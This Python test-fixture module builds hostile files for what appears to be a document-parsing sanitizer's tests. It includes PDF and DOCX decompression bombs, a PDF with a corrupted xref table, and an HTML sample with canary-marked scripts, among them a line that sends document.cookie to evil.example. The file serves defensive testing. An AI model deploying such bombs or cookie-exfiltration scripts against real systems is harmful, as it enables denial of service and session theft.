"""Hostile files, built byte by byte in the test (nothing binary is committed)."""

from __future__ import annotations

import io
import re
import zipfile
import zlib
from collections.abc import Sequence

from pypdf import PdfReader, PdfWriter

ZEROS_MB = 512
"""Unpacked size of the bombs: far past every limit, ~0.5 MB packed, ~1.5 s to build."""


def pdf(pages: int = 1, *, text: str = "Hello", stream: bytes | None = None) -> bytes:
    """A PDF of `pages` pages sharing one content stream (drawing `text`, or `stream` raw)."""
    content = stream if stream is not None else f"BT /F1 12 Tf 72 712 Td ({text}) Tj ET".encode()
    kids = " ".join(f"{5 + i} 0 R" for i in range(pages))
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        content if content.startswith(b"<<") else _stream(content),
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 3 0 R >> >> >>"
    ] * pages
    return _write(objects)


def _stream(data: bytes, *, filters: Sequence[str] = ()) -> bytes:
    names = " ".join(f"/{f}" for f in filters)
    head = f"<< /Length {len(data)}{f' /Filter [{names}]' if filters else ''} >>\nstream\n"
    return head.encode() + data + b"\nendstream"


def _write(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.writelines(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode())
    out.write(f"startxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _zeros_deflated() -> bytes:
    packer = zlib.compressobj(9)
    block = b"\0" * (1 << 20)
    return b"".join(packer.compress(block) for _ in range(ZEROS_MB)) + packer.flush()


def pdf_decompression_bomb() -> bytes:
    """One page whose content stream inflates to ZEROS_MB MB."""
    return pdf(stream=_stream(_zeros_deflated(), filters=["FlateDecode"]))


def pdf_with_broken_xref(text: str) -> bytes:
    """A one-page PDF whose xref table points every object at the wrong offset."""
    good = pdf(text=text)
    return re.sub(rb"(\d{10}) 00000 n", lambda m: b"0000000003 00000 n", good)


def pdf_with_password(text: str) -> bytes:
    """A one-page PDF that needs a password to open."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(text=text))))
    writer.encrypt("secret-password")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def docx_zip_bomb() -> bytes:
    """A DOCX-shaped zip whose document.xml inflates to ZEROS_MB MB (raw deflate, no rebuild)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            block = b"\0" * (1 << 20)
            for _ in range(ZEROS_MB):
                member.write(block)
    return out.getvalue()


HTML_WITH_SCRIPTS = b"""<!doctype html><html><head><title>Menu</title>
<script>fetch('https://evil.example/?c=' + document.cookie); var canary = 'SCRIPT-CANARY';</script>
<style>body { background: url('STYLE-CANARY') }</style></head>
<body onload="alert('ONLOAD-CANARY')"><h1>Menu</h1>
<p>The soup of the day is lentil.</p>
<script type="module">import('SCRIPT-CANARY-2')</script>
<noscript>NOSCRIPT-CANARY</noscript><template>TEMPLATE-CANARY</template>
<a href="javascript:alert('HREF-CANARY')">More soups</a></body></html>"""
CANARIES = ("CANARY", "evil.example", "javascript:")
